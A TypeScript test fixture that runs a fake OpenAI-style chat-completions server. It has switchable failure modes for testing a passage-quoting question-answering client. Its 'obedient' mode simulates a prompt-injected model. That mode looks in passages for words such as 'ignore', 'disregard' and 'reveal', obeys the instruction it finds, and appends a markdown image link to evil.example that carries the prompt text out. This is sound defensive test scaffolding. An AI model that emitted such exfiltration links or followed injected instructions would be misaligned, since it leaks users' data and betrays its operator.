import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { json } from 'node:stream/consumers';
import type { ModelReply } from './reply.ts';

/** How the server behaves; `obedient` follows any instruction in a page. */
export type ModelMode =
  | 'good'
  | 'slow'
  | 'refusing'
  | 'garbage'
  | 'wrong-schema'
  | 'endless'
  | 'misquoting'
  | 'inventing'
  | 'obedient'
  | 'wrong-key'
  | 'no-quota'
  | 'rate-limited'
  | 'overflow'
  | 'broken'
  | 'failing';

export type Asked = { model: string; messages: { role: string; content: string }[]; tools?: unknown };
/** Answers a call in any way the test needs. */
export type Responder = (res: ServerResponse, asked: Asked) => unknown;
type Passage = { id: string; text: string };

export const noAnswer: ModelReply = {
  outcome: 'not-stated',
  kind: null,
  text: '',
  people: null,
  prices: null,
  items: null,
  date: null,
  yes: null,
  quotes: [],
};

const passagesOf = (prompt: string): Passage[] => {
  const mark = /^([0-9a-f]{24}) passage /.exec(prompt)?.[1] ?? 'none';
  return [...prompt.matchAll(new RegExp(`${mark} passage (\\S+) of [^\\n]*\\n([\\s\\S]*?)\\n${mark}`, 'g'))].map(
    ([, id = '', text = '']) => ({ id, text }),
  );
};
const questionOf = (prompt: string): string => /Question: (.*)$/.exec(prompt)?.[1] ?? '';
const wordsOf = (text: string): Set<string> => new Set(text.toLowerCase().match(/[\p{L}\p{N}]{3,}/gu) ?? []);

/**
 * Reads the passages as a small model would: picks the line that shares the most words with the question, and a name in
 * it.
 */
const goodReply = (prompt: string): ModelReply => {
  const asked = wordsOf(questionOf(prompt).replace(/^(?:who|what|when|where|which) (?:is|are) (?:the )?/i, ''));
  const lines = passagesOf(prompt).flatMap(({ id, text }) => text.split('\n').map((line) => ({ id, line })));
  const scored = lines
    .map(({ id, line }) => ({ id, line, score: [...wordsOf(line)].filter((word) => asked.has(word)).length }))
    .sort((a, b) => b.score - a.score);
  const best = scored[0];
  if (!best || best.score === 0) return noAnswer;
  const name = /\p{Lu}\p{Ll}+ \p{Lu}\p{Ll}+/u.exec(best.line)?.[0];
  const quotes = [{ passage: best.id, quote: best.line }];
  return name !== undefined && /^who/i.test(questionOf(prompt))
    ? { ...noAnswer, outcome: 'answered', kind: 'person', text: `${name}.`, people: [{ name, role: null }], quotes }
    : { ...noAnswer, outcome: 'answered', kind: 'text', text: best.line, quotes };
};

/** Follows any instruction in a page, and leaks everything in its prompt. */
const obedientReply = (asked: Asked): ModelReply => {
  const prompt = asked.messages.find(({ role }) => role === 'user')?.content ?? '';
  const order = passagesOf(prompt)
    .flatMap(({ id, text }) => text.split('\n').map((line) => ({ id, line })))
    .find(({ line }) => /ignore|disregard|system|assistant|answer with|reveal|tool/i.test(line));
  if (!order) return goodReply(prompt);
  const said = /(?:answer|say|respond|reply)(?: only)?(?: with)?[: ]+["“]?([^"”.]+)/i.exec(order.line)?.[1] ?? 'HACKED';
  const all = `${said} ![x](https://evil.example/?d=${asked.messages
    .map(({ content }) => content)
    .join(' ')
    .slice(0, 200)})`;
  return {
    ...noAnswer,
    outcome: 'answered',
    kind: 'text',
    text: all,
    quotes: [{ passage: order.id, quote: order.line }],
  };
};

const send = (res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}) =>
  res.writeHead(status, { 'content-type': 'application/json', ...headers }).end(JSON.stringify(body));
const failure = (code: string, message: string) => ({ error: { code, message, type: code } });

export const completion = (asked: Asked, content: string | null, refusal: string | null = null) => ({
  id: 'chatcmpl-1',
  object: 'chat.completion',
  created: 1_795_000_000,
  model: asked.model,
  choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content, refusal } }],
  usage: { prompt_tokens: 400, completion_tokens: 60, total_tokens: 460 },
});

/** A local server that speaks OpenAI's chat completions protocol. Records the requests it gets. */
export const modelServer = async (start: ModelMode = 'good') => {
  const state: { mode: ModelMode | Responder } = { mode: start };
  const asked: Asked[] = [];
  const answer = async (req: IncomingMessage, res: ServerResponse): Promise<unknown> => {
    if (req.url === '/v1/models') return send(res, 200, { object: 'list', data: [{ id: 'local', object: 'model' }] });
    if (req.method !== 'POST' || req.url !== '/v1/chat/completions')
      return send(res, 404, failure('not_found', 'No such address'));
    const body = (await json(req)) as Asked;
    asked.push(body);
    const prompt = body.messages.find(({ role }) => role === 'user')?.content ?? '';
    const reply = (value: unknown) => send(res, 200, completion(body, JSON.stringify(value)));
    const isRepair = body.messages.length > 2;
    if (typeof state.mode === 'function') return state.mode(res, body);
    switch (state.mode) {
      case 'good':
        return reply(goodReply(prompt));
      case 'slow':
        return setTimeout(() => reply(goodReply(prompt)), 2000).unref();
      case 'refusing':
        return send(res, 200, completion(body, null, 'I cannot help with that.'));
      case 'garbage':
        return send(res, 200, completion(body, 'Sure! Here is the answer: {"outcome": '));
      case 'wrong-schema':
        return reply({ outcome: 'certainly', text: 12 });
      case 'endless':
        return reply({ ...goodReply(prompt), text: 'word '.repeat(200_000) });
      case 'misquoting':
        return reply(
          isRepair
            ? goodReply(prompt)
            : { ...goodReply(prompt), quotes: [{ passage: '1.0', quote: 'These words stand on no page.' }] },
        );
      case 'inventing':
        return reply({
          ...goodReply(prompt),
          kind: 'person',
          people: [{ name: 'Mallory Miller', role: null }],
          text: 'Mallory Miller.',
        });
      case 'obedient':
        return reply(obedientReply(body));
      case 'wrong-key':
        return send(res, 401, failure('invalid_api_key', 'Incorrect API key provided'));
      case 'no-quota':
        return send(res, 429, failure('insufficient_quota', 'You exceeded your current quota'));
      case 'rate-limited':
        return send(res, 429, failure('rate_limit_exceeded', 'Slow down'), { 'retry-after-ms': '10' });
      case 'overflow':
        return send(res, 400, failure('context_length_exceeded', 'Too many tokens'));
      case 'failing':
        return send(res, 500, failure('server_error', 'Sorry'));
      case 'broken':
        return res.destroy();
    }
  };
  const server = createServer((req, res) => {
    answer(req, res).catch(() => res.destroy());
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    asked,
    url: `http://127.0.0.1:${String((server.address() as AddressInfo).port)}/v1`,
    setMode(mode: ModelMode | Responder) {
      state.mode = mode;
    },
    stop() {
      server.close();
      server.closeAllConnections();
    },
  };
};
